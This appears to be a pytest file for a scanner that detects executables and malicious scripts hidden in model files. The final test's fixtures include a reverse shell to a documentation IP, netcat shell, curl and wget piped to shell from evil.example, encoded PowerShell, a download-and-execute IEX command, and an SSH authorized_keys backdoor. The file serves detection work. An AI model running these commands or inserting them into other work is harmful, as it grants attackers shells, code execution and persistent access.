import struct

import pytest

from scanners.facts import Code
from scanners.formats import executable
from tests.builders.readings import blob_of, read_with, uncovered

PE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(40)


@pytest.mark.parametrize(
    ("data", "name", "language"),
    [
        (b"\x7fELF" + bytes(60), "model.bin", "elf"),
        (PE, "model.onnx", "pe"),
        (b"\xcf\xfa\xed\xfe" + bytes(60), "x", "mach-o"),
        (b"\xca\xfe\xba\xbe\0\0\0\2" + bytes(60), "x", "mach-o"),
        (b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(60), "x", "java-class"),
        (b"\0asm\1\0\0\0", "x", "webassembly"),
        (b"MZqFpD='\n" + bytes(60), "m.llamafile", "llamafile"),
        (struct.pack("<H", 3495) + b"\r\n" + bytes(20), "x.pyc", "python-bytecode"),
        (b"\x1bLua\x53" + bytes(20), "x.luac", "lua-bytecode"),
        (b"\x1bLJ\x02" + bytes(20), "x", "lua-bytecode"),
        (b"#!/bin/sh\nrm x\n", "run", "script"),
        (b"echo x", "train.sh", "shell"),
        (b"x", "a.ps1", "powershell"),
    ],
)
def test_a_program_is_named_as_one(data: bytes, name: str, language: str) -> None:
    assert executable.matches(blob_of(data, name))
    assert [fact.language for fact in read_with(executable, data, name=name).facts if isinstance(fact, Code)] == [
        language
    ]


@pytest.mark.parametrize(("data", "name"), [(b"MZ are letters", "a.txt"), (b"", "x"), (b"#!/usr/bin/python\n", "x")])
def test_other_files_are_left_alone(data: bytes, name: str) -> None:
    assert not executable.matches(blob_of(data, name))


def test_machine_code_is_never_complete_but_a_script_is_read() -> None:
    assert read_with(executable, PE).reasons
    script = read_with(executable, b"#!/bin/sh\n", name="x.sh")
    assert not script.reasons
    assert uncovered(script) == 0


@pytest.mark.parametrize(
    ("script", "attacks"),
    [
        (b"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", 1),
        (b"nc -e /bin/sh 198.51.100.7 4444", 1),
        (b"echo aWQ= | base64 -d | bash", 1),
        (b"curl http://198.51.100.7/x | sh", 1),
        (b"wget -qO- http://evil.example/x | sudo bash", 1),
        (b"powershell -enc aQBkAGkAZABpAGQA", 1),
        (b"IEX (New-Object Net.WebClient).DownloadString('http://x')", 1),
        (b"echo ssh-rsa A >> ~/.ssh/authorized_keys", 1),
        (b"curl -fsSL https://ollama.com/install.sh | sh", 0),
        (b"huggingface-cli download org/model\npython train.py --epochs 3\nrsync -e ssh a b", 0),
        (b"crontab -l", 0),
        (b"base64 -d data.b64 > data.bin", 0),
    ],
)
def test_what_no_script_of_a_model_does_is_stated(script: bytes, attacks: int) -> None:
    reading = read_with(executable, b"#!/bin/sh\n" + script, name="run.sh")
    assert sum(isinstance(fact, Code) and fact.action == "script-attack" for fact in reading.facts) == attacks
